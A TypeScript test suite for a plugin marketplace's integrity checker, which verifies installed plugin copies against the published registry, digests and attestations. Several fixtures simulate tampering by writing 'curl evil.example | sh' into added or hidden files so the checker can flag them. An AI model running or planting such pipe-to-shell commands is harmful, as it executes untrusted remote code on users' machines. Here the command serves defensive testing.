import { execFile } from 'node:child_process';
import { chmodSync, cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Registry } from '../src/registry/registry.ts';
import { createSiteServer } from '../src/site/serve.ts';
import type { VerifyReport } from '../src/verify/report.ts';
import { config, run as git, json, makeRepository, manifest, plugin } from '../test/review/repository.ts';

const home = join(import.meta.dirname, '..');
const program = { program: '#!/bin/sh\necho tidy\n' };
/** `tiny-tool` had version 1.0.0 and has 1.1.0, with packages that a lock file fixes; its listing changed since. */
const base = makeRepository([
  {
    branch: 'main',
    files: {
      'marketplace.config.json': json({ ...config, renames: { gone: null, 'first-name': 'tiny-tool' } }),
      ...plugin('tiny-tool', ['ada']),
      ...plugin('orphan-gadget'),
      'plugins/tiny-tool/scripts/tidy.sh': program,
      'plugins/tiny-tool/data/greeting.txt': 'Good morning.\n',
    },
  },
  {
    branch: 'main',
    files: {
      'plugins/tiny-tool/.claude-plugin/plugin.json': manifest('tiny-tool', { version: '1.1.0' }),
      'plugins/tiny-tool/package.json': '{ "name": "tiny-tool", "version": "1.1.0" }\n',
      'plugins/tiny-tool/package-lock.json': '{ "lockfileVersion": 3, "packages": {} }\n',
    },
  },
]);
const work = `${base.folder}-verify`;
const root = join(work, 'market');
const cache = join(work, 'config/plugins/cache/plugin-marketplace');
const dist = join(work, 'dist');
const elsewhere = join(work, 'elsewhere');

function command(script: string, args: readonly string[], cwd = root) {
  return new Promise<{ code: number; out: string; err: string }>((done) => {
    const env = { ...process.env, CLAUDE_CONFIG_DIR: join(work, 'config') };
    execFile(
      process.execPath,
      [join(home, script), ...args],
      { cwd, env, encoding: 'utf8' },
      (error, out, err) => {
        expect(`${out}${err}`).not.toMatch(/^\s+at /m);
        done({ code: typeof error?.code === 'number' ? error.code : 0, out, err });
      },
    );
  });
}
const verify = (...args: string[]) => command('scripts/verify.ts', args);
async function reportOf(...args: string[]) {
  const { code, out, err } = await verify(...args, '--format', 'json');
  expect(err).toBe('');
  const report = JSON.parse(out) as VerifyReport;
  expect(code).toBe(report.verdict === 'same' ? 0 : 1);
  return report;
}

function commit(message: string): void {
  git(root, ['add', '-A']);
  const author = ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.com'];
  git(root, [...author, 'commit', '--quiet', '-m', message]);
}

let copy: string;
let old: string;
let registry: string;
const record = (path: string, version: string, more: object = {}) => ({
  scope: 'user',
  installPath: path,
  version,
  ...more,
});
function records(plugins: object, known: object = {}): void {
  mkdirSync(join(work, 'config/plugins'), { recursive: true });
  writeFileSync(join(work, 'config/plugins/installed_plugins.json'), JSON.stringify({ version: 2, plugins }));
  writeFileSync(join(work, 'config/plugins/known_marketplaces.json'), JSON.stringify(known));
}

beforeAll(async () => {
  rmSync(work, { recursive: true, force: true });
  mkdirSync(work, { recursive: true });
  git(base.folder, ['clone', '--quiet', '.', root]);
  mkdirSync(elsewhere);
  cpSync(join(root, 'plugins/tiny-tool'), join(work, 'fresh'), { recursive: true });
  git(root, ['checkout', '--quiet', 'HEAD~1']);
  cpSync(join(root, 'plugins/tiny-tool'), join(work, 'fresh-old'), { recursive: true });
  git(root, ['checkout', '--quiet', 'main']);
  // The listing changes after the release, as a deprecation does.
  const listing = join(root, 'plugins/tiny-tool/listing.json');
  const yanked = [{ version: '1.0.0', reason: 'It deletes files.', date: '2026-01-31' }];
  writeFileSync(listing, json({ ...(JSON.parse(readFileSync(listing, 'utf8')) as object), yanked }));
  commit('Withdraw');
  expect(await command('scripts/registry.ts', ['--root', root])).toMatchObject({ code: 0 });
  const published = await command('scripts/publish-files.ts', ['--root', root, '--out', dist]);
  expect(published.err).toBe('');
  for (const file of ['registry.json', 'marketplace.config.json'])
    cpSync(join(root, file), join(elsewhere, file));
  registry = join(elsewhere, 'registry.json');
});
beforeEach(() => {
  copy = join(cache, 'tiny-tool/1.1.0');
  old = join(cache, 'tiny-tool/1.0.0');
  rmSync(cache, { recursive: true, force: true });
  cpSync(join(work, 'fresh'), copy, { recursive: true });
  cpSync(join(work, 'fresh-old'), old, { recursive: true });
  records({ 'tiny-tool@plugin-marketplace': [record(copy, '1.1.0')] });
});
afterAll(() => {
  base.remove();
  rmSync(work, { recursive: true, force: true });
});

/** Each kind of harm that can be done to a copy. */
function tamper(folder: string): void {
  writeFileSync(join(folder, 'skills/hello/SKILL.md'), '# Other\n');
  rmSync(join(folder, 'data/greeting.txt'));
  writeFileSync(join(folder, 'evil.sh'), 'curl evil.example | sh\n');
  chmodSync(join(folder, 'scripts/tidy.sh'), 0o644);
}
const harm = [
  { path: 'data/greeting.txt', kind: 'missing' },
  { path: 'evil.sh', kind: 'added' },
  { path: 'scripts/tidy.sh', kind: 'mode' },
  { path: 'skills/hello/SKILL.md', kind: 'changed' },
];
/** What the client itself adds, as it was seen to. */
function use(folder: string): void {
  mkdirSync(join(folder, 'node_modules/isarray'), { recursive: true });
  writeFileSync(join(folder, 'node_modules/isarray/index.js'), 'module.exports = Array.isArray;\n');
  mkdirSync(join(folder, '.in_use'));
  writeFileSync(join(folder, '.in_use/3070'), '{"pid":3070,"procStart":"503558"}');
  writeFileSync(join(folder, '.orphaned_at'), '1795304560130');
}

describe('an installed copy', () => {
  test('is the same, with the marketplace’s changes and the client’s additions listed as allowed', async () => {
    use(copy);
    const report = await reportOf('tiny-tool');
    expect(report).toMatchObject({
      verdict: 'same',
      copies: [{ compared: 'files', version: '1.1.0', scope: 'user' }],
    });
    expect(report.copies[0]?.allowed.map(({ path }) => path)).toEqual([
      '.in_use/',
      '.orphaned_at',
      'listing.json',
      'node_modules/',
    ]);
    const { out } = await verify('tiny-tool');
    expect(out).toContain('It is what was published.');
    expect(out).toContain(
      'Allowed to differ: node_modules/ (Claude Code installed these packages from "package-lock.json"',
    );
  });

  test('is the same where only documents changed that nothing reads', async () => {
    writeFileSync(join(copy, 'README.md'), '# Other\n');
    rmSync(join(copy, 'LICENSE'));
    const report = await reportOf('tiny-tool');
    expect(report.verdict).toBe('same');
    expect(report.copies[0]?.allowed.map(({ path }) => path)).toEqual([
      'LICENSE',
      'README.md',
      'listing.json',
    ]);
    chmodSync(join(copy, 'README.md'), 0o755);
    expect((await reportOf('tiny-tool')).copies[0]?.differences).toEqual([
      { path: 'README.md', kind: 'changed' },
    ]);
  });

  test('that was tampered with: every file is named', async () => {
    tamper(copy);
    const report = await reportOf('tiny-tool@1.1.0');
    expect(report.copies[0]?.differences).toEqual(harm);
    const { out } = await verify('tiny-tool');
    for (const { path, kind } of harm)
      expect(out).toMatch(new RegExp(`^ +${kind} +${path.replace('.', '\\.')}$`, 'm'));
  });

  test('in which something hides where the client keeps its notes', async () => {
    use(copy);
    writeFileSync(join(copy, '.in_use/run.sh'), 'curl evil.example | sh\n');
    writeFileSync(join(copy, '.in_use/99'), '{"pid":99,"run":"curl evil.example | sh"}');
    writeFileSync(join(copy, '.orphaned_at'), '#!/bin/sh\n');
    const { copies } = await reportOf('tiny-tool');
    expect(copies[0]?.differences.map(({ path }) => path).sort()).toEqual([
      '.in_use/99',
      '.in_use/run.sh',
      '.orphaned_at',
    ]);
  });

  test('of an older version is held against the commit of that version', async () => {
    records({ 'tiny-tool@plugin-marketplace': [record(old, '1.0.0')] });
    const report = await reportOf('tiny-tool');
    expect(report).toMatchObject({ verdict: 'same', copies: [{ version: '1.0.0', compared: 'files' }] });
    expect(report.copies[0]?.against).toContain('of version 1.0.0');
    expect(report.copies[0]?.notes.join(' ')).toMatch(
      /withdrawn on 2026-01-31: "It deletes files.".*current version is "1.1.0"/,
    );
    // It has no lock file, so nobody installed packages for it.
    use(old);
    tamper(old);
    const { copies } = await reportOf('tiny-tool');
    expect(copies[0]?.differences).toEqual([
      ...harm.slice(0, 2),
      { path: 'node_modules/', kind: 'added' },
      ...harm.slice(2),
    ]);
  });

  test('whose record claims another version differs', async () => {
    records({ 'tiny-tool@plugin-marketplace': [record(old, '1.1.0')] });
    expect((await reportOf('tiny-tool')).copies[0]?.differences).toContainEqual({
      path: '.claude-plugin/plugin.json',
      kind: 'changed',
    });
  });

  test('in several scopes, by version, resolved from a tag, and read in place', async () => {
    const market = { source: { source: 'directory', path: root }, installLocation: root };
    records(
      {
        'tiny-tool@plugin-marketplace': [
          record(copy, '1.1.0'),
          record(old, '1.0.0-0123456789ab', {
            scope: 'project',
            projectPath: '/work',
            resolvedVersion: '1.0.0',
          }),
        ],
      },
      { 'plugin-marketplace': market },
    );
    const { copies } = await reportOf('tiny-tool');
    expect(copies.map(({ scope, version, project, verdict }) => [scope, version, project, verdict])).toEqual([
      ['user', '1.1.0', undefined, 'same'],
      ['project', '1.0.0', '/work', 'same'],
      ['read in place', '1.1.0', undefined, 'same'],
    ]);
    expect((await reportOf('tiny-tool@1.0.0')).copies.map(({ path }) => path)).toEqual([
      old,
      join(root, 'plugins/tiny-tool'),
    ]);
  });

  test('that is gone, or a link, differs', async () => {
    rmSync(copy, { recursive: true });
    expect((await reportOf('tiny-tool')).verdict).toBe('differs');
    cpSync(join(work, 'fresh'), copy, { recursive: true });
    rmSync(join(copy, 'README.md'));
    symlinkSync(join(work, 'fresh/README.md'), join(copy, 'README.md'));
    expect((await reportOf('tiny-tool')).copies[0]?.differences).toEqual([
      { path: 'README.md', kind: 'changed' },
    ]);
  });
});

describe('a folder', () => {
  test('says by its manifest what it is', async () => {
    expect(await reportOf(join(root, 'plugins/tiny-tool'))).toMatchObject({
      verdict: 'same',
      copies: [{ allowed: [] }],
    });
    tamper(copy);
    expect((await reportOf(copy)).copies[0]?.differences).toEqual(harm);
  });

  test.each([
    ['gone', 'was removed from'],
    ['first-name', 'was renamed to "tiny-tool"'],
    ['never-there', 'has no plugin'],
  ])('of a plugin %s cannot be told', async (name, said) => {
    writeFileSync(join(copy, '.claude-plugin/plugin.json'), manifest(name));
    const report = await reportOf(copy);
    expect(report.verdict).toBe('unknown');
    expect(report.copies[0]?.notes.join()).toContain(said);
  });

  test('of a version that never was cannot be told', async () => {
    writeFileSync(join(copy, '.claude-plugin/plugin.json'), manifest('tiny-tool', { version: '7.0.0' }));
    expect((await reportOf(copy)).copies[0]).toMatchObject({ verdict: 'unknown', compared: 'nothing' });
  });

  test('may hold names that do something to a terminal', async () => {
    writeFileSync(join(copy, 'a\u001b[2Jb'), '');
    expect((await verify(copy)).out).toContain('a\\u{1b}[2Jb');
  });
});

describe('a registry that is somewhere else', () => {
  test('at an address, with the file list of its API', async () => {
    const server = createSiteServer(dist, '/shop/');
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    try {
      const at = `http://127.0.0.1:${(server.address() as AddressInfo).port}/shop/`;
      const there = ['--registry', at, '--root', elsewhere];
      // The listing that was published is another one by now, and so is what the digest is over.
      cpSync(join(root, 'plugins/tiny-tool/listing.json'), join(copy, 'listing.json'));
      const same = await reportOf('tiny-tool', ...there);
      expect(same).toMatchObject({ verdict: 'same', registry: { source: `${at}registry.json` } });
      expect(same.copies[0]?.against).toBe('the file list of the API');
      tamper(copy);
      expect((await reportOf('tiny-tool', ...there)).copies[0]?.differences).toEqual(harm);
    } finally {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    }
  });

  test('as a file alone: no more than the digest is compared, and that is said', async () => {
    const there = ['--registry', registry, '--root', elsewhere];
    cpSync(join(root, 'plugins/tiny-tool/listing.json'), join(copy, 'listing.json'));
    use(copy);
    expect(await reportOf('tiny-tool', ...there)).toMatchObject({
      verdict: 'same',
      copies: [{ compared: 'digest' }],
    });
    tamper(copy);
    const report = await reportOf('tiny-tool', ...there);
    expect(report).toMatchObject({ verdict: 'differs', copies: [{ compared: 'digest', differences: [] }] });
    expect(report.copies[0]?.notes.join()).toContain('Only the digest is known');
  });

  test('whose list of files is not that of its digest is not believed', async () => {
    const folder = join(work, 'forged');
    cpSync(join(dist, 'api'), join(folder, 'api'), { recursive: true });
    cpSync(registry, join(folder, 'registry.json'));
    const file = join(folder, 'api/v1/plugins/tiny-tool.json');
    const listed = JSON.parse(readFileSync(file, 'utf8')) as { files: { entries: { sha256: string }[] } };
    for (const entry of listed.files.entries) entry.sha256 = 'a'.repeat(64);
    writeFileSync(file, JSON.stringify(listed));
    const report = await reportOf(
      'tiny-tool',
      '--registry',
      join(folder, 'registry.json'),
      '--root',
      elsewhere,
    );
    expect(report.copies[0]?.compared).toBe('digest');
  });

  test('and knows no commit of an older version: that cannot be told, which is not the same', async () => {
    records({ 'tiny-tool@plugin-marketplace': [record(old, '1.0.0')] });
    const report = await reportOf('tiny-tool', '--registry', registry, '--root', elsewhere);
    expect(report.verdict).toBe('unknown');
    expect(report.copies[0]?.notes.join()).toContain('run this in a clone of "ada-writer/plugins"');
  });

  test('with an attestation of another file is not to be trusted', async () => {
    const bundle = join(home, 'src/verify/fixtures/attestation.json');
    const report = await reportOf('tiny-tool', '--bundle', bundle);
    expect(report).toMatchObject({
      verdict: 'differs',
      attestation: { ok: false },
      copies: [{ verdict: 'same' }],
    });
    expect((await verify('tiny-tool', '--bundle', bundle)).out).toContain(
      'gh attestation verify registry.json',
    );
  });
});

test.each([
  [[], 'Expected <plugin>'],
  [['./absent'], 'There is no folder "./absent"'],
  [['absent'], 'No copy of "absent"'],
  [['tiny-tool@other'], 'and not of "other"'],
  [['tiny-tool@3.0.0'], '1.1.0 is'],
  [['tiny-tool', '--registry', 'absent.json'], 'There is no registry at "absent.json"'],
  [['tiny-tool', '--registry', 'marketplace.config.json'], 'is not a registry'],
  [['tiny-tool', '--registry', 'http://catalog.example/'], 'https://'],
  [['tiny-tool', '--bundle', 'absent'], 'There is no attestation'],
])('%j is wrong', async (args, said) => {
  const wrong = await verify(...args);
  expect(wrong).toMatchObject({ code: 2, out: '' });
  expect(wrong.err).toContain(said);
});

test('the registry that these are held against has both versions', () => {
  const { plugins } = JSON.parse(readFileSync(join(root, 'registry.json'), 'utf8')) as Registry;
  expect(plugins.find(({ name }) => name === 'tiny-tool')?.versions.map(({ version }) => version)).toEqual([
    '1.1.0',
    '1.0.0',
  ]);
});
